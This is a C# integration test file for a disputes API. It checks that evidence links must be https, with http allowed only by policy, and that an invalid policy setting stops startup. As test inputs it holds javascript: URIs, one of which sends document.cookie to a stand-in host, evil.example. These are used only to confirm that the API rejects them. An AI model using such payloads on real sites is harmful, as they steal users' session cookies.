using System.Net;
using System.Text.Json.Nodes;
using Disputes.Api.Composition;
using Disputes.Hosting.Settings;
using Disputes.Hosting.Workers;
using Disputes.IntegrationTests.Deadlines;
using NodaTime.Testing;
using static Disputes.IntegrationTests.DisputeApi;

namespace Disputes.IntegrationTests;

// The timeline serves evidence links to mediators' tools, so a link is the storefront's https file or nothing:
// a script URI from a buyer is refused with the field named and never reaches the store, by either path that
// carries evidence (adding it, and a seller's rejection). Plain http only where the policy allows it.
public sealed class EvidenceLinks(ApiFixture<EvidenceLinks> api) : IClassFixture<ApiFixture<EvidenceLinks>>
{
    private readonly DisputeApi http = For(api);

    private static Guid Id(int n) => Guid.Parse($"0199f400-0000-7000-8000-{n:D12}");

    private static JsonObject Linking(int n, string uri) => Evidence(n).With("uri", uri);

    [Theory]
    [InlineData(1, "javascript:alert(document.cookie)")]
    [InlineData(2, "not a uri at all")]
    [InlineData(3, "http://store.example/evidence/3")]
    public async Task Given_an_open_dispute_When_a_buyer_adds_evidence_linking_elsewhere_than_https_Then_400_and_the_timeline_is_unchanged(int n, string uri)
    {
        var id = Id(n);
        await Ok(http.Open(id, orderId: $"order-links-{n}"), HttpStatusCode.Created);
        var before = await Timeline(id);

        var response = await http.Storefront(id, "evidence", new() { ["actingAs"] = AsBuyer, ["evidence"] = Linking(n, uri) });

        await ShouldName(response, "evidence.uri");
        (await Timeline(id)).Should().Be(before);
    }

    [Fact]
    public async Task Given_a_claim_When_the_seller_rejects_it_with_evidence_linking_a_script_Then_400_names_the_item_and_nothing_is_appended()
    {
        var id = Id(10);
        await Ok(http.Open(id, orderId: "order-links-10"), HttpStatusCode.Created);
        var before = await Timeline(id);

        var response = await http.Storefront(id, "reject-claim", new()
        {
            ["actingAs"] = AsSeller, ["reason"] = "Delivered.",
            ["evidence"] = new JsonArray(Evidence(11), Linking(12, "javascript:fetch('//evil.example/'+document.cookie)")),
        });

        await ShouldName(response, "evidence[1].uri");
        (await Timeline(id)).Should().Be(before);
    }

    [Fact]
    public async Task Given_a_policy_allowing_http_evidence_When_a_buyer_links_over_http_Then_it_is_accepted_and_scripts_still_are_not()
    {
        await DeadlineHost.DropSchema("evidence_links_http");
        await using var host = new DeadlineHost("evidence_links_http", new FakeClock(ApiFixture<EvidenceLinks>.Now), new Dictionary<string, string?>
        {
            ["Disputes:Policy:Version"] = "http-evidence",
            ["Disputes:Policy:AllowHttpEvidence"] = "true",
        });
        var intranet = For(host);
        var id = Id(20);
        await Ok(intranet.Open(id, orderId: "order-links-20"), HttpStatusCode.Created);

        await Ok(intranet.Storefront(id, "evidence", new() { ["actingAs"] = AsBuyer, ["evidence"] = Linking(21, "http://intranet.store.example/evidence/21") }));
        await ShouldName(await intranet.Storefront(id, "evidence", new() { ["actingAs"] = AsBuyer, ["evidence"] = Linking(22, "javascript:alert(1)") }), "evidence.uri");
    }

    [Fact]
    public async Task Given_a_setting_for_http_evidence_that_is_not_a_boolean_When_the_app_starts_Then_it_refuses_naming_the_key()
    {
        await using var host = new DeadlineHost("evidence_links_setting", new FakeClock(ApiFixture<EvidenceLinks>.Now), new Dictionary<string, string?>
        {
            ["Disputes:Policy:AllowHttpEvidence"] = "sometimes",
        });

        // The check Program runs before serving; its message is the one line the operator sees, with exit code 3.
        var refusal = await StartupFailure.Check(host.Services);

        refusal.Should().Contain("Disputes:Policy:AllowHttpEvidence").And.Contain("sometimes");
    }

    private async Task<string> Timeline(Guid id) => (await api.ClientAs("mediator-1", "mediator").GetJson($"/disputes/{id}/timeline")).ToJsonString();

    private static async Task ShouldName(HttpResponseMessage response, string field)
    {
        var text = await response.Content.ReadAsStringAsync();
        response.StatusCode.Should().Be(HttpStatusCode.BadRequest, text);
        var problem = await response.Json();
        problem["type"]!.GetValue<string>().Should().Be("https://disputes.dev/problems/invalid-input");
        problem["errors"]!.AsObject().Select(e => e.Key).Should().Equal([field], text);
    }
}
